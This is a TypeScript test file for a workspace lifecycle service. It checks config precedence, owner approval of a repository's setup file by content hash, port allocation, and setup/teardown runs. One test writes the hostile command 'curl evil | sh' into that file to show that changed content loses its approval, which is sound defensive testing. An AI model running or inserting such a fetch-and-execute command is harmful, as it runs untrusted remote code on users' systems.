// The workspace lifecycle service on a real store and repository: which config applies (hangar.yaml
// wins; the repository's file only once the owner approved that exact content), who may approve, setup
// once per place with HANGAR_PORT (a failure is kept and retried), teardown where it was set up.
import { existsSync } from 'node:fs'
import { mkdir, readFile, realpath, rm, writeFile } from 'node:fs/promises'
import path from 'node:path'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { makeTempDir, STORE_ENGINES, type TestStore } from '../../../test/helpers/store-engines.js'
import { parseConfig } from '../../core/config.js'
import type { User } from '../../store/repositories/users-repository.js'
import type { Workspace } from '../../store/repositories/workspaces-repository.js'
import { contentHash } from './lifecycle-config.js'
import { createWorkspaceLifecycle } from './workspace-lifecycle.js'

describe('workspace lifecycle', () => {
  let root: string
  let project: string
  let testStore: TestStore
  let owner: User
  let member: User

  const REPO_FILE = 'setup: echo from-repo\n'

  beforeEach(async () => {
    root = await realpath(await makeTempDir('hangar-lifecycle-'))
    project = path.join(root, 'shop')
    await mkdir(path.join(project, '.hangar'), { recursive: true })
    await writeFile(path.join(project, '.hangar', 'workspace.yaml'), REPO_FILE)
    testStore = await STORE_ENGINES[0]!.open()
    owner = await testStore.store.users.create({ name: 'owner', role: 'owner' })
    member = await testStore.store.users.create({ name: 'member', role: 'member' })
  })
  afterEach(async () => {
    await testStore.dispose()
    await rm(root, { recursive: true, force: true })
  })

  function lifecycle(yaml = '') {
    return createWorkspaceLifecycle({
      store: testStore.store,
      config: parseConfig(yaml),
      defaultProject: { name: 'shop', dir: project },
      env: { PATH: process.env.PATH },
      portRange: { from: 32_000, to: 32_100 },
    })
  }

  async function workspace(dir: string): Promise<Workspace> {
    await mkdir(dir, { recursive: true })
    return testStore.store
      .forUser(owner.id)
      .workspaces.create({ kind: 'copy', path: dir, projectPath: project })
  }

  it('lets hangar.yaml win over the repository file', async () => {
    const resolved = await lifecycle('projects:\n  shop:\n    workspace: { setup: make }\n').resolve()
    expect(resolved).toMatchObject({ source: 'hangar.yaml', config: { setup: 'make' } })
    expect(resolved.repositoryFile).toMatchObject({ approved: false })
  })

  it('applies the repository file only once the owner approved that exact content', async () => {
    const service = lifecycle()
    const before = await service.show(member.id)
    expect(before).toMatchObject({ source: 'none', config: null })
    // Members see what it would run.
    expect(before.repositoryFile).toMatchObject({ approved: false, config: { setup: 'echo from-repo' } })
    const hash = contentHash(REPO_FILE)
    expect(before.repositoryFile?.contentHash).toBe(hash)

    await expect(service.approve(member.id, hash)).rejects.toMatchObject({ code: 'forbidden' })
    expect((await service.resolve()).source).toBe('none')
    await expect(service.approve(owner.id, 'f'.repeat(64))).rejects.toMatchObject({ code: 'conflict' })

    expect(await service.approve(owner.id, hash)).toMatchObject({
      source: 'repository',
      config: { setup: 'echo from-repo' },
    })
    // A changed file needs approving again.
    await writeFile(path.join(project, '.hangar', 'workspace.yaml'), 'setup: curl evil | sh\n')
    expect(await service.resolve()).toMatchObject({ source: 'none', config: null })
  })

  it('refuses to approve a file that does not parse, saying where', async () => {
    const text = 'setup: make\nport: 2\n'
    await writeFile(path.join(project, '.hangar', 'workspace.yaml'), text)
    await expect(lifecycle().approve(owner.id, contentHash(text))).rejects.toThrow(
      /workspace\.yaml:2:1: port: unknown key "port"/,
    )
  })

  it('copies files and takes distinct ports for two workspaces, kept until teardown', async () => {
    await writeFile(path.join(project, '.env'), 'A=1\n')
    const service = lifecycle('projects:\n  shop:\n    workspace: { copy: [".env"], ports: 2 }\n')
    const one = await workspace(path.join(root, 'ws1'))
    const two = await workspace(path.join(root, 'ws2'))
    const first = await service.prepareFiles(one, one.path)
    const second = await service.prepareFiles(two, two.path)
    expect(first.copied).toEqual(['.env'])
    expect(await readFile(path.join(one.path, '.env'), 'utf8')).toBe('A=1\n')
    expect(first.ports).toEqual({ first: 32_000, count: 2 })
    expect(second.ports).toEqual({ first: 32_002, count: 2 })
    expect(await service.variables(two.id)).toEqual({ HANGAR_PORT: '32002', HANGAR_PORT_COUNT: '2' })
    await service.teardown(one)
    expect(await service.variables(one.id)).toEqual({})
  })

  it('gives a workspace made before the project asked for ports its ports at its next run', async () => {
    const ws = await workspace(path.join(root, 'old'))
    await lifecycle().prepareFiles(ws, ws.path)
    expect(await lifecycle().variables(ws.id)).toEqual({})
    const now = lifecycle('projects:\n  shop:\n    workspace: { ports: 1 }\n')
    expect(await now.variablesForRun(ws)).toEqual({ HANGAR_PORT: '32000', HANGAR_PORT_COUNT: '1' })
    expect(await now.variablesForRun(ws)).toEqual({ HANGAR_PORT: '32000', HANGAR_PORT_COUNT: '1' })
  })

  it('runs setup once with HANGAR_PORT, keeps a failure with its tail and exit code, and retries it', async () => {
    const flag = path.join(root, 'fail')
    await writeFile(flag, '')
    const service = lifecycle(
      [
        'projects:',
        '  shop:',
        '    workspace:',
        '      ports: 1',
        `      setup: 'echo "port $HANGAR_PORT" > marker; echo line-one; if [ -e ${flag} ]; then echo broken >&2; exit 3; fi'`,
        '      teardown: touch ../torn-down',
      ].join('\n'),
    )
    const ws = await workspace(path.join(root, 'ws'))
    await service.prepareFiles(ws, ws.path)
    const output: string[] = []
    const hooks = {
      env: { PATH: process.env.PATH },
      onOutput: (_: string, text: string) => output.push(text),
    }
    const failed = await service.setup(ws, { target: 'local', dir: ws.path }, hooks)
    expect(failed).toMatchObject({ status: 'failed', exitCode: 3, target: 'local' })
    expect(failed.status === 'failed' && failed.tail).toMatch(/line-one\nbroken$/)
    expect(output.join('')).toContain('line-one')

    await rm(flag)
    expect(await service.setup(ws, { target: 'local', dir: ws.path }, hooks)).toEqual({
      status: 'succeeded',
      exitCode: 0,
    })
    expect(await readFile(path.join(ws.path, 'marker'), 'utf8')).toBe('port 32000\n')
    // Done here: the next run does not run it again.
    expect(await service.setup(ws, { target: 'local', dir: ws.path }, hooks)).toEqual({ status: 'skipped' })

    const teardown = await service.teardown(ws)
    expect(teardown).toEqual([{ target: 'local', exitCode: 0, tail: '' }])
    expect(existsSync(path.join(root, 'torn-down'))).toBe(true)
  })

  it('says which repository file waits for approval when nothing applies', async () => {
    const ws = await workspace(path.join(root, 'ws'))
    expect(await lifecycle().setup(ws, { target: 'local', dir: ws.path }, { env: {} })).toEqual({
      status: 'skipped',
      unapproved: path.join(project, '.hangar', 'workspace.yaml'),
    })
  })
})
